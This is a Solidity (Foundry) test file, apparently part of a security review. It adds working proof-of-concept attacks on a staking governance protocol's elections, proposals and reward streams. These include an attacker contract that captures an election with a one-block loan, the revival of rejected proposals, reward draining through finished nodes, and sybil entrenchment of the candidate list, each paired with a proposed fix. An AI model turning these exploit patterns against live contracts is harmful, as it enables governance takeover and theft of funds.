@@ -1,0 +1,484 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.30;
+
+import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
+import {IParameters} from "../../src/interfaces/IParameters.sol";
+import {INodeRegistry} from "../../src/interfaces/INodeRegistry.sol";
+import {IGovernance} from "../../src/interfaces/IGovernance.sol";
+import {Governance, IDelegatedVotes} from "../../src/Governance.sol";
+import {NodeRegistry} from "../../src/NodeRegistry.sol";
+import {Protocol} from "../utils/Protocol.sol";
+import {Puppet} from "../utils/FlashLender.sol";
+
+/// An attacker's contract for an election captured with ANKR borrowed for ONE block: it stakes the loan in
+/// the last transaction of the block whose timestamp is the election snapshot (`enter`), and in the first
+/// transaction of the next block runs `elect()` itself, which lifts the lock, takes everything back and
+/// repays (`exit`).
+contract OneBlockCapturer {
+    Governance internal immutable gov;
+    NodeRegistry internal immutable nodes;
+    IERC20 internal immutable ankr;
+    uint256 internal immutable nodeId;
+    address internal immutable attacker;
+    Puppet[3] public puppets;
+
+    constructor(Governance gov_, NodeRegistry nodes_, IERC20 ankr_, uint256 nodeId_) {
+        gov = gov_;
+        nodes = nodes_;
+        ankr = ankr_;
+        nodeId = nodeId_;
+        attacker = msg.sender;
+        for (uint256 i = 0; i < 3; ++i) {
+            puppets[i] = new Puppet();
+        }
+        ankr_.approve(address(nodes_), type(uint256).max);
+    }
+
+    function act(uint256 i, address target, bytes calldata data) external returns (bytes memory) {
+        require(msg.sender == attacker, "not attacker");
+        return puppets[i].exec(target, data);
+    }
+
+    /// Block N (timestamp == snapshot): the borrowed ANKR weighs in. Nothing here is refused in the lock.
+    function enter(uint256 amount) external {
+        require(msg.sender == attacker, "not attacker");
+        uint256 each = amount / 3;
+        for (uint256 i = 0; i < 2; ++i) {
+            require(ankr.transfer(address(puppets[i]), each), "transfer");
+            puppets[i].exec(address(gov), abi.encodeCall(Governance.stake, (each)));
+        }
+        nodes.stakeOnSidecar(nodeId, each); // a new sidecar stake: no lock
+        nodes.delegate(address(puppets[2])); // delegating from nobody: no lock
+    }
+
+    /// Block N + 1: elect (which ends the lock in the same transaction), unstake, repay.
+    function exit(uint256 amount, address lender) external {
+        require(msg.sender == attacker, "not attacker");
+        uint256 each = amount / 3;
+        gov.elect();
+        for (uint256 i = 0; i < 2; ++i) {
+            puppets[i].exec(address(gov), abi.encodeCall(Governance.unstake, (each)));
+            puppets[i].exec(address(ankr), abi.encodeCall(IERC20.transfer, (address(this), each)));
+        }
+        nodes.unstakeFromSidecar(nodeId, each);
+        require(ankr.transfer(lender, amount), "repay");
+    }
+}
+
+/// Issue 15 review: attacks on the checkpointed elections, proposals and streamed / vesting rewards.
+/// `test_Finding_*` perform an attack that currently succeeds and assert the damage.
+contract Issue15ReviewAttacksTest is Protocol {
+    Governance internal gov;
+    address[] internal invited;
+    address internal fund = makeAddr("development");
+    uint256 internal constant MIN = 100_000 ether;
+    uint256 internal constant BOND = 1_000 ether;
+
+    function setUp() public {
+        deployProtocol();
+        invited.push(member("inv1"));
+        invited.push(member("inv2"));
+        invited.push(member("inv3"));
+        gov = new Governance(
+            params, ankr, IDelegatedVotes(address(nodes)), address(insurance), address(rewardPool), invited
+        );
+        for (uint256 i = 0; i < invited.length; i++) {
+            vm.prank(invited[i]);
+            ankr.approve(address(gov), type(uint256).max);
+        }
+    }
+
+    // ------------------------------------------------------------------ helpers
+
+    function member(string memory name) internal returns (address who) {
+        who = makeAddr(name);
+        ankr.mint(who, 1_000_000 ether);
+    }
+
+    function joinAll() internal {
+        for (uint256 i = 0; i < invited.length; i++) {
+            vm.prank(invited[i]);
+            gov.acceptInvitation(MIN);
+        }
+    }
+
+    function candidate(string memory name, uint256 amount) internal returns (address who) {
+        who = member(name);
+        vm.startPrank(who);
+        ankr.approve(address(gov), type(uint256).max);
+        gov.stake(amount);
+        gov.applyAsCandidate();
+        vm.stopPrank();
+    }
+
+    function handOver() internal {
+        vm.startPrank(governance);
+        nodes.connectElections(gov);
+        params.transferGovernance(gov.executor());
+        vm.stopPrank();
+    }
+
+    /// inv1..inv3 (100,000 each) and c1 (150,000), c2 (120,000) seated by the transition.
+    function transition() internal returns (address c1, address c2) {
+        vm.warp(block.timestamp + 29 days);
+        c1 = candidate("c1", 150_000 ether);
+        c2 = candidate("c2", 120_000 ether);
+        vm.warp(gov.nextElectionAt());
+        gov.elect();
+    }
+
+    function voteAs(uint256 id, address who, bool support) internal {
+        vm.prank(who);
+        gov.vote(id, support);
+    }
+
+    function activeNode(string memory providerName, string memory sidecarName) internal returns (uint256 id) {
+        address provider = qualifiedProvider(providerName, IParameters.TrustLevel.Trusted);
+        vm.prank(provider);
+        id = nodes.registerNode(makeAddr(sidecarName), "https://node", capacity());
+    }
+
+    function assertGovernors(address[] memory expected) internal view {
+        address[] memory g = gov.governors();
+        assertEq(g.length, expected.length, "seat count");
+        for (uint256 i = 0; i < expected.length; i++) {
+            assertEq(g[i], expected[i], string.concat("seat ", vm.toString(i)));
+        }
+    }
+
+    // ------------------------------------------------------------------ findings
+
+    /// FINDING 1 (high): the election is still captured with ANKR borrowed for ONE block.
+    /// The snapshot is a single second known a term in advance, `stake`, `stakeOnSidecar` and `delegate`
+    /// from nobody are all allowed inside the lock, and a checkpoint written AT the snapshot second counts.
+    /// The lock only keeps the capital in until `elect()`, which anyone (the attacker) may call in the very
+    /// next block, and `elect()` lifts the lock inside the same transaction. So the borrowed capital is held
+    /// across exactly one block boundary (12 s): the last transaction of the snapshot's block and the first
+    /// of the next. A one-block loan on any lending market (against any collateral) or a builder's inventory
+    /// suffices; no atomic flash loan is needed.
+    /// Numbers: honest side inv1..inv3 100,000 each, c1 150,000, c2 120,000. The attacker holds three
+    /// candidates with the 100,000 minimum each (300,000 of its own) and borrows 300,000 for one block:
+    /// 100,000 staked on each of two candidates, 100,000 staked on a sidecar and delegated to the third.
+    /// Each weighs 200,000 at the snapshot, so they take 3 of the 5 seats (all invited governors are
+    /// unseated), the loan is repaid one block later, and their majority hands Parameters to the attacker
+    /// (and with it the reward pool's wiring, registries, MicroPool governance, ...).
+    /// Fix: make weight need to be held over a window, not an instant. E.g. start the lock `LockLead`
+    /// (say 7 days) before the snapshot for stakes already in, refuse new stake / delegation from nobody
+    /// / sidecar stake being counted after `snapshot - LockLead`, and weigh min(weightAt(snapshot -
+    /// LockLead), weightAt(snapshot)); or weigh a time-weighted average of the checkpoints over the term.
+    function test_Finding_OneBlockLoanCapturesElection() public {
+        uint256 nodeId = activeNode("provider", "sidecar");
+        joinAll();
+        handOver();
+        (address c1, address c2) = transition();
+        assertGovernors(_five(invited[0], invited[1], invited[2], c1, c2));
+
+        address attacker = makeAddr("attacker");
+        address lender = makeAddr("lender");
+        ankr.mint(lender, 300_000 ether);
+        vm.prank(attacker);
+        OneBlockCapturer capturer = new OneBlockCapturer(gov, nodes, ankr, nodeId);
+        address[3] memory p;
+        for (uint256 i = 0; i < 3; i++) {
+            p[i] = address(capturer.puppets(i));
+            ankr.mint(p[i], MIN + BOND); // the attacker's own capital (and one proposal bond)
+            vm.startPrank(attacker);
+            capturer.act(i, address(ankr), abi.encodeCall(IERC20.approve, (address(gov), type(uint256).max)));
+            capturer.act(i, address(gov), abi.encodeCall(Governance.stake, (MIN)));
+            capturer.act(i, address(gov), abi.encodeCall(Governance.applyAsCandidate, ()));
+            vm.stopPrank();
+        }
+
+        // Block N, timestamp == snapshot: borrow and weigh in (the last transaction of the block).
+        uint256 snapshot = gov.electionSnapshotAt();
+        vm.warp(snapshot);
+        vm.prank(lender);
+        ankr.transfer(address(capturer), 300_000 ether);
+        vm.prank(attacker);
+        capturer.enter(300_000 ether);
+        assertEq(gov.weightAt(p[0], snapshot), 200_000 ether);
+        assertEq(gov.weightAt(p[2], snapshot), 200_000 ether, "100,000 own + 100,000 delegated");
+
+        // Block N + 1 (12 s later): the first transaction elects, takes the loan back and repays it.
+        vm.roll(block.number + 1);
+        vm.warp(snapshot + 12);
+        vm.prank(attacker);
+        capturer.exit(300_000 ether, lender);
+        assertEq(ankr.balanceOf(lender), 300_000 ether, "loan repaid one block later");
+        assertEq(nodes.totalStakeOf(address(capturer)), 0);
+        for (uint256 i = 0; i < 3; i++) {
+            assertEq(gov.memberOf(p[i]).stake, MIN, "only the attacker's own 100,000 stays");
+        }
+        assertGovernors(_five(p[0], p[1], p[2], c1, c2));
+        for (uint256 i = 0; i < 3; i++) {
+            assertFalse(gov.memberOf(invited[i]).governor, "every invited governor unseated");
+        }
+
+        // A 3-of-5 majority for a whole term: Parameters to the attacker.
+        vm.warp(block.timestamp + 1);
+        vm.prank(attacker);
+        bytes memory ret = capturer.act(
+            0,
+            address(gov),
+            abi.encodeCall(
+                Governance.propose,
+                (address(params), abi.encodeCall(params.transferGovernance, (attacker)), "x")
+            )
+        );
+        uint256 id = abi.decode(ret, (uint256));
+        for (uint256 i = 0; i < 3; i++) {
+            vm.prank(attacker);
+            capturer.act(i, address(gov), abi.encodeCall(Governance.vote, (id, true)));
+        }
+        vm.warp(gov.getProposal(id).eta);
+        gov.execute(id);
+        assertEq(params.governance(), attacker, "the attacker owns Parameters");
+    }
+
+    /// FINDING 2 (high when QuorumBps is ever lowered; medium otherwise): quorum and majority are read
+    /// from Parameters when `passed`/`finalize`/`execute` run, not when the proposal was made. A proposal
+    /// that was rejected (no quorum) stays alive until `expiresAt`, and its attendance is counted whenever
+    /// someone finalizes it. So after any later, legitimate, lowering of `QuorumBps`:
+    /// - a rogue governor's old, ignored proposal (here `transferGovernance(rogue)`, 1 yes of 5 seats)
+    ///   becomes "passed" and executable, and
+    /// - the rogue finalizes its two old, ignored spam proposals and the takeover, which now "reached
+    ///   quorum", so the four honest governors (who ignored spam, as the design intends) have missed three
+    ///   in a row: each is slashed 10,000 ANKR and removed, and the rogue gets its three bonds back.
+    /// Numbers: rogue inv1 opens 3 proposals at t0 and votes yes on each; the 4 honest governors ignore
+    /// them. At t0 + 3 d (after all three ended rejected) the 4 honest governors pass QuorumBps = 2,000
+    /// (1 of 5 seats), executed at t0 + 8 d, inside the rogue's window [t0 + 5 d, t0 + 19 d).
+    /// Result: Parameters owned by the rogue, governors = [rogue], 40,000 ANKR slashed to insurance, rogue
+    /// bonds 3,000 returned instead of forfeited.
+    /// Fix: copy QuorumBps and MajorityBps (and MissedVotesLimit) into the Proposal at `propose` and use
+    /// only those; or settle the outcome once in `finalize` (callable from `end`) and let `execute` rely
+    /// on the recorded outcome.
+    function test_Finding_LaterQuorumChangeResurrectsRejectedProposals() public {
+        joinAll();
+        handOver();
+        (address c1, address c2) = transition();
+        vm.warp(block.timestamp + 1);
+        address rogue = invited[0];
+        address[4] memory honest = [invited[1], invited[2], c1, c2];
+        uint256 rogueBefore = ankr.balanceOf(rogue);
+        uint256 insuranceBefore = ankr.balanceOf(address(insurance));
+
+        uint256 t0 = block.timestamp;
+        bytes memory noop = abi.encodeCall(params.get, (IParameters.Key.AuditK));
+        vm.startPrank(rogue);
+        uint256 spam1 = gov.propose(address(params), noop, "nothing");
+        uint256 spam2 = gov.propose(address(params), noop, "nothing");
+        uint256 takeover =
+            gov.propose(address(params), abi.encodeCall(params.transferGovernance, (rogue)), "mine");
+        gov.vote(spam1, true);
+        gov.vote(spam2, true);
+        gov.vote(takeover, true);
+        vm.stopPrank();
+
+        vm.warp(t0 + 3 days);
+        assertFalse(gov.passed(takeover), "rejected: 1 vote of 5 seats is no quorum");
+
+        // The honest majority lowers quorum for a good reason; the rogue abstains.
+        vm.prank(c1);
+        uint256 q =
+            gov.propose(address(params), abi.encodeCall(params.set, (IParameters.Key.QuorumBps, 2_000)), "q");
+        for (uint256 i = 0; i < 4; i++) {
+            voteAs(q, honest[i], true);
+        }
+        vm.warp(gov.getProposal(q).eta);
+        assertEq(block.timestamp, t0 + 8 days);
+        gov.execute(q);
+
+        // The rogue's rejected proposals are alive again.
+        assertTrue(gov.passed(takeover), "retroactively passed");
+        vm.startPrank(rogue);
+        gov.finalize(spam1);
+        gov.finalize(spam2);
+        gov.execute(takeover);
+        vm.stopPrank();
+
+        assertEq(params.governance(), rogue, "the rogue owns Parameters");
+        address[] memory seated = gov.governors();
+        assertEq(seated.length, 1);
+        assertEq(seated[0], rogue, "every honest governor slashed and removed");
+        for (uint256 i = 0; i < 4; i++) {
+            assertFalse(gov.memberOf(honest[i]).governor);
+        }
+        assertEq(gov.memberOf(invited[1]).stake, MIN - 10_000 ether);
+        assertEq(gov.memberOf(c1).stake, 150_000 ether - 10_000 ether);
+        assertEq(ankr.balanceOf(address(insurance)) - insuranceBefore, 40_000 ether, "4 x 10,000 slashed");
+        assertEq(ankr.balanceOf(rogue), rogueBefore, "the rogue's three bonds all came back");
+    }
+
+    /// FINDING 3 (medium): a stake on a FINISHED node keeps its reward shares forever. `finishNode` does not
+    /// take the node's stakes out of the stream, so they keep earning the sidecar stakers' 20 % period
+    /// after period, claimable at any time and withdrawable at any time without forfeit - while stakes on
+    /// running nodes (which the category exists to reward) can neither claim nor leave without forfeiting.
+    /// A qualified provider turns this into liquid, forfeit-free sidecar staking: register a node, stake
+    /// on it, finish it in the same transaction. (Any staker on a node that ever finished gets the same.)
+    /// Numbers: holderA stakes 1,000 ANKR on a running honest node; the attacker-provider stakes 1,000 on
+    /// its own node and finishes it at once. 100 ETH are distributed: the sidecar stream is
+    /// 33,068,783,000,000 wei/s x 604,800 s = 19,999,999,958,400,000,000. After the week the attacker claims
+    /// half, 9,999,999,979,200,000,000 wei, and leaves with all its ANKR; holderA can claim nothing and
+    /// would forfeit its half by leaving. The next period the dead stake earns half again.
+    /// Fix: stop a node's stakes earning when it finishes: on `finishNode` remove the node's
+    /// `sidecarStake` units from the stream total and record the category's per-share value at that
+    /// moment for the node (positions of a finished node earn up to that value only); O(1) per node.
+    function test_Finding_FinishedNodeStakeEarnsForeverWithoutForfeit() public {
+        vm.prank(governance);
+        rewardPool.wire(gov, stakerRewards, nodes, fund);
+        uint256 honestNode = activeNode("provider", "sidecar");
+        address holderA = staker("holderA");
+        vm.startPrank(holderA);
+        ankr.approve(address(nodes), type(uint256).max);
+        nodes.stakeOnSidecar(honestNode, 1_000 ether);
+        vm.stopPrank();
+
+        // The attacker is a qualified provider: register, stake, finish - one transaction.
+        address attacker = qualifiedProvider("attackerProvider", IParameters.TrustLevel.Trusted);
+        ankr.mint(attacker, 1_000 ether);
+        vm.startPrank(attacker);
+        uint256 dead = nodes.registerNode(makeAddr("attackerSidecar"), "https://dead", capacity());
+        ankr.approve(address(nodes), type(uint256).max);
+        nodes.stakeOnSidecar(dead, 1_000 ether);
+        nodes.finishNode(dead);
+        vm.stopPrank();
+        assertEq(uint8(nodes.getNode(dead).status), uint8(INodeRegistry.Status.Finished));
+        assertEq(nodes.totalRewardShares(), 2_000 ether, "the dead node's stake still holds shares");
+
+        vm.deal(address(this), 100 ether);
+        (bool ok,) = address(rewardPool).call{value: 100 ether}("");
+        assertTrue(ok);
+        rewardPool.distribute();
+        vm.warp(block.timestamp + 7 days);
+
+        uint256 before = attacker.balance;
+        vm.prank(attacker);
+        nodes.claimRewards(dead);
+        assertEq(
+            attacker.balance - before, 9_999_999_979_200_000_000, "half the sidecar stream, claimed at once"
+        );
+        vm.prank(holderA);
+        vm.expectRevert(abi.encodeWithSelector(INodeRegistry.NodeRewardsNotVested.selector, honestNode));
+        nodes.claimRewards(honestNode);
+        (uint256 pendingA,) = nodes.pendingRewards(honestNode, holderA);
+        assertEq(pendingA, 9_999_999_979_200_000_000, "the honest staker's half is locked and forfeitable");
+
+        // Next period: the dead stake still takes half.
+        vm.deal(address(this), 100 ether);
+        (ok,) = address(rewardPool).call{value: 100 ether}("");
+        assertTrue(ok);
+        rewardPool.distribute();
+        vm.warp(block.timestamp + 7 days);
+        before = attacker.balance;
+        vm.prank(attacker);
+        nodes.claimRewards(dead);
+        assertEq(attacker.balance - before, 9_999_999_979_200_000_000, "another half");
+        // And leaves whenever it likes, forfeiting nothing.
+        uint256 poolBefore = address(rewardPool).balance;
+        vm.prank(attacker);
+        nodes.unstakeFromSidecar(dead, 1_000 ether);
+        assertEq(address(rewardPool).balance, poolBefore, "no forfeit");
+        assertEq(ankr.balanceOf(attacker), 1_000 ether);
+    }
+
+    /// FINDING 4 (low/medium, capital-intensive): the candidate list is a first-come, never-pruned list of
+    /// at most 100. Losing candidates stay on it for ever, so whoever fills it (100 sybils with the
+    /// 100,000 minimum each: 10,000,000 ANKR, fully recoverable, earning nothing but also risking
+    /// nothing) shuts every challenger out of every future election, however heavy. Incumbents (or an
+    /// attacker allied with them) are entrenched; the sybils need not even win.
+    /// Numbers: after the transition, 100 sybils apply with 100,000 each. A challenger with 900,000 ANKR
+    /// (heavier than any governor) is refused, and the next automated election re-seats the same five.
+    /// Fix: when the list is full let a heavier applicant replace the lightest candidate, or clear
+    /// candidacies that lost at each election (they may apply again for the next term).
+    function test_Finding_FullCandidateListLocksOutChallengers() public {
+        joinAll();
+        handOver();
+        (address c1, address c2) = transition();
+        vm.warp(block.timestamp + 1);
+        for (uint256 i = 0; i < gov.MAX_CANDIDATES(); i++) {
+            candidate(string.concat("sybil", vm.toString(i)), MIN);
+        }
+        address challenger = member("challenger");
+        vm.startPrank(challenger);
+        ankr.approve(address(gov), type(uint256).max);
+        gov.stake(900_000 ether);
+        vm.expectRevert(IGovernance.GovernanceTooManyCandidates.selector);
+        gov.applyAsCandidate();
+        vm.stopPrank();
+
+        vm.warp(gov.nextElectionAt());
+        gov.elect();
+        assertGovernors(_five(c1, c2, invited[0], invited[1], invited[2]));
+        assertEq(gov.candidates().length, 100, "the sybils all stay candidates");
+        vm.prank(challenger);
+        vm.expectRevert(IGovernance.GovernanceTooManyCandidates.selector);
+        gov.applyAsCandidate();
+    }
+
+    // ------------------------------------------------------------------ defences that held
+
+    /// A staker delegated to X cannot move its votes or leave during the lock; a flash stake inside the
+    /// snapshot second cannot leave in that block, and `elect()` is not due until the next second.
+    function test_Holds_DelegatedVotesLockedUntilElect() public {
+        uint256 nodeId = activeNode("provider", "sidecar");
+        joinAll();
+        handOver();
+        address x = makeAddr("x");
+        address y = makeAddr("y");
+        address s = staker("s");
+        vm.startPrank(s);
+        ankr.approve(address(nodes), type(uint256).max);
+        nodes.stakeOnSidecar(nodeId, 1_000 ether);
+        nodes.delegate(x);
+        vm.stopPrank();
+        vm.warp(gov.electionSnapshotAt());
+        vm.startPrank(s);
+        vm.expectRevert(abi.encodeWithSelector(INodeRegistry.NodeVotesLocked.selector, s));
+        nodes.delegate(y);
+        vm.expectRevert(abi.encodeWithSelector(INodeRegistry.NodeVotesLocked.selector, s));
+        nodes.unstakeFromSidecar(nodeId, 1_000 ether);
+        vm.stopPrank();
+        vm.expectRevert(
+            abi.encodeWithSelector(
+                IGovernance.GovernanceElectionNotDue.selector, gov.electionSnapshotAt() + 1
+            )
+        );
+        gov.elect();
+    }
+
+    /// Splitting an early sidecar withdrawal into ten pieces forfeits the same as one withdrawal (the
+    /// proportional forfeit compounds to the whole pending; rounding moves at most a wei per piece).
+    function test_Holds_SplitUnstakeStillForfeitsEverything() public {
+        vm.prank(governance);
+        rewardPool.wire(gov, stakerRewards, nodes, fund);
+        uint256 nodeId = activeNode("provider", "sidecar");
+        address holderA = staker("holderA");
+        vm.startPrank(holderA);
+        ankr.approve(address(nodes), type(uint256).max);
+        nodes.stakeOnSidecar(nodeId, 1_000 ether);
+        vm.stopPrank();
+        vm.deal(address(this), 100 ether);
+        (bool ok,) = address(rewardPool).call{value: 100 ether}("");
+        assertTrue(ok);
+        rewardPool.distribute();
+        vm.warp(block.timestamp + 7 days);
+        (uint256 pending,) = nodes.pendingRewards(nodeId, holderA);
+        assertEq(pending, 19_999_999_958_400_000_000);
+        uint256 poolBefore = address(rewardPool).balance;
+        for (uint256 i = 0; i < 10; i++) {
+            vm.prank(holderA);
+            nodes.unstakeFromSidecar(nodeId, 100 ether);
+        }
+        assertApproxEqAbs(address(rewardPool).balance - poolBefore, pending, 10, "all forfeited");
+        assertEq(holderA.balance, 1_000 ether, "nothing kept");
+    }
+
+    function _five(address a, address b, address c, address d, address e)
+        internal
+        pure
+        returns (address[] memory l)
+    {
+        l = new address[](5);
+        (l[0], l[1], l[2], l[3], l[4]) = (a, b, c, d, e);
+    }
+}
